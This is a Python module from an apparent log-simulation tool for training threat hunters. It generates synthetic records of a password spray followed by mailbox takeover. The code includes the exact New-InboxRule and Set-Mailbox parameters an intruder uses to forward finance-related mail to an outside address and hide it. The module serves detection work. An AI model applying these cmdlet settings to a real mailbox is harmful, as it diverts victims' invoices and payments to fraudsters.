"""Business e-mail compromise after a password spray: inbox rule and mailbox forwarding.

In one hour of the night, two or three rented servers try one or two passwords on every user
(failed sign-ins, error 50126); one user's password works (a successful sign-in from a spraying
address). Hours later the actor signs in to Outlook on the web as that user from another
server, reads a few messages, creates an inbox rule that forwards mail matching finance words
to an outside mailbox, marks it read and moves it to "RSS Feeds" (a folder of one character's
name on some seeds), and sets mailbox forwarding to the same outside address. Key records: the
rule and forwarding records (the spray alone looks like any failed sign-ins).
"""

from __future__ import annotations

from datetime import timedelta

from mailhunt.simulate import catalog
from mailhunt.simulate.acting import VPS_PLACE, Acting, later
from mailhunt.simulate.attacks import AttackKind
from mailhunt.simulate.catalog import CLIENTS, Endpoint
from mailhunt.simulate.ids import new_uuid
from mailhunt.simulate.model import Intrusion
from mailhunt.simulate.scene import Scene

KIND = "bec-inbox-rule"
_DROP_DOMAINS = ("protonmail.com", "mailfence.com", "tutanota.de", "gmx.com")


def inject(scene: Scene) -> Intrusion:
    rng = scene.rng(KIND)
    act = Acting(scene, rng)
    actor = scene.actor_rng(KIND)
    sprayers = [catalog.vps_ip(actor) for _ in range(actor.randint(2, 3))]
    operator_ip = catalog.vps_ip(actor)
    drop = f"ap.{actor.choice(('billing', 'accounts', 'finance'))}{actor.randint(10, 99)}@" + (
        actor.choice(_DROP_DOMAINS)
    )
    owa = CLIENTS["owa"]
    hour = scene.tenant.midnight(scene.day) + timedelta(hours=rng.randint(0, 3))
    records: list[str] = []
    users = [u for u in scene.cast.users if u.start_day <= scene.day]
    ordinary = [u for u in users if u.upn != scene.cast.personas.executive]
    victim = rng.choice(ordinary[5:] or ordinary)
    at = hour + timedelta(minutes=2)
    for user in users:
        for _ in range(rng.randint(1, 2)):
            at = later(at, rng, 5, 40)
            ip = rng.choice(sprayers)
            signin_id, _ = act.sign_in(
                at,
                user,
                owa,
                Endpoint(ip, VPS_PLACE),
                session=new_uuid(rng),
                interactive=True,
                error_code=50126,
            )
            records.append(signin_id)
    at = min(later(at, rng, 30, 300), hour + timedelta(minutes=58))
    signin_id, _ = act.sign_in(
        at,
        victim,
        owa,
        Endpoint(sprayers[0], VPS_PLACE),
        session=new_uuid(rng),
        interactive=True,
    )
    records.append(signin_id)
    # the operator, hours later, from another server
    at = later(at, rng, 3 * 3600, 6 * 3600)
    session = new_uuid(rng)
    signin_id, token = act.sign_in(
        at,
        victim,
        owa,
        Endpoint(operator_ip, VPS_PLACE),
        session=session,
        interactive=True,
    )
    records.append(signin_id)
    exchange_session = new_uuid(rng)
    for _ in range(rng.randint(2, 3)):
        at = later(at, rng, 20, 200)
        records.append(
            act.read_mail(
                at,
                victim,
                victim,
                operator_ip,
                client_info=owa.client_info,
                session=exchange_session,
                app_id=owa.ual_app_id,
                client_app_id=owa.app_id,
                token=token,
                day=scene.day,
            )
        )
    at = later(at, rng, 60, 400)
    name = rng.choice((".", "..", "RSS", "x"))
    folder = rng.choice(("RSS Feeds", "Conversation History", "."))
    rule = act.cmdlet(
        at,
        victim,
        operator_ip,
        "New-InboxRule",
        {
            "AlwaysDeleteOutlookRulesBlob": "False",
            "Force": "False",
            "Name": name,
            "SubjectOrBodyContainsWords": "invoice;payment;wire transfer;bank details",
            "ForwardTo": drop,
            "MarkAsRead": "True",
            "MoveToFolder": folder,
            "StopProcessingRules": "True",
        },
        object_id=f"{victim.upn}\\{name}",
        admin=False,
    )
    at = later(at, rng, 60, 600)
    forwarding = act.cmdlet(
        at,
        victim,
        operator_ip,
        "Set-Mailbox",
        {
            "Identity": victim.upn,
            "ForwardingSmtpAddress": f"smtp:{drop}",
            "DeliverToMailboxAndForward": "True",
        },
        object_id=victim.upn,
        admin=False,
    )
    records += [rule, forwarding]
    return Intrusion(
        kind=KIND,
        tenant_id=scene.tenant.tenant_id,
        app_id="",
        client_app_id="",
        client_ips=(*sprayers, operator_ip),
        mailboxes=(victim.upn,),
        record_ids=tuple(records),
        internet_message_ids=(),
        first_seen=hour,
        last_seen=at,
        key_record_ids=(rule, forwarding),
    )


ATTACK = AttackKind(
    name=KIND,
    summary="password spray, one success, then an inbox rule forwarding and hiding finance "
    "mail and mailbox forwarding to an outside address",
    inject=inject,
    expected=("inbox-rule-abuse", "mail-forwarding"),
)
